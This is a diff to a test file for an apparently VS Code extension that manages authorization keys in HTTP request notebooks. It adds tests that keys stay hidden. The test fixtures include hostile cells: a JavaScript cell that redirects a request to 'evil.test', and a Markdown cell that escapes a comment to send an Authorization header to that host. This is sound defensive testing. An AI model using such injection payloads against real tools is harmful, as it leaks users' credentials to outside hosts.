@@ -5,6 +5,7 @@ import { join } from 'node:path';
 import * as vscode from 'vscode';
 import { formatAuthorizationReference } from '../../src/requestFiles/keyReferences';
 import { ReferenceFiles } from '../support/editor/referenceFiles';
+import { requestFileKind } from '../../src/ui/requestFiles/requestDocuments';
 import { eventually } from '../support/eventually';
 
 describe('references in imported files', function () {
@@ -106,7 +107,7 @@ describe('references in imported files', function () {
 			await eventually(() => assert.ok(vscode.window.tabGroups.activeTabGroup.activeTab?.input instanceof Input));
 		}
 
-		/** Opens a notebook with a cell for each line of the file with `---`. */
+		/** Opens a notebook with a cell for each line of the file with `---`. A cell can start with its language in brackets. */
 		async function openNotebook(type: string, name: string, cells: readonly string[]): Promise<void> {
 			registration ??= vscode.workspace.registerNotebookSerializer(type, {
 				deserializeNotebook: (bytes) =>
@@ -114,7 +115,11 @@ describe('references in imported files', function () {
 						Buffer.from(bytes)
 							.toString()
 							.split('---\n')
-							.map((text) => new vscode.NotebookCellData(vscode.NotebookCellKind.Code, text, 'http')),
+							.map((cell) => {
+								const [, language = 'http', text = ''] = /^(?:\[(\w+)\]\n)?(.*)$/s.exec(cell) ?? [];
+								const { Code, Markup } = vscode.NotebookCellKind;
+								return new vscode.NotebookCellData(language === 'markdown' ? Markup : Code, text, language);
+							}),
 					),
 				serializeNotebook: () => new Uint8Array(),
 			});
@@ -137,6 +142,33 @@ describe('references in imported files', function () {
 		it('expose no key in a notebook of requests to a foreign host', async () => {
 			await openNotebook('http', 'foreign.http', [authText(), useInCell.replace('http://localhost:3000', 'https://evil.test')]);
 			await files.assertNotExposed();
+		});
+
+		const hostileCells: Record<string, string> = {
+			'code in another language, which httpYac runs': '[javascript]\n{{+\nrequest.url = "https://evil.test";\n}}\n',
+			'Markdown that ends its comment': '[markdown]\n*/\nGET https://evil.test/\nAuthorization: {{auth}}\n',
+		};
+		for (const [title, cell] of Object.entries(hostileCells)) {
+			it(`expose no key in a notebook of requests with ${title}`, async () => {
+				await openNotebook('http', 'hostile.http', [authText(), useInCell, cell]);
+				await files.assertNotExposed();
+			});
+		}
+
+		it('expose the key in a notebook of requests with Markdown, which contains no requests itself', async () => {
+			await openNotebook('http', 'described.http', [
+				'[markdown]\n# Orders\n',
+				authText(),
+				useInCell,
+				'[json]\n{ "GET": 1 }\n',
+				'[markdown]\nEnd\n',
+			]);
+			await waitUntilExposed(true);
+			const notebook = vscode.workspace.notebookDocuments.find(({ uri }) => uri.path.endsWith('/described.http'))!;
+			assert.deepEqual(
+				notebook.getCells().map(({ document }) => requestFileKind(document)),
+				['markdown', 'requestFile', 'requestFile', undefined, 'markdown'],
+			);
 		});
 
 		it('expose the key in a cell of any other notebook', async () => {
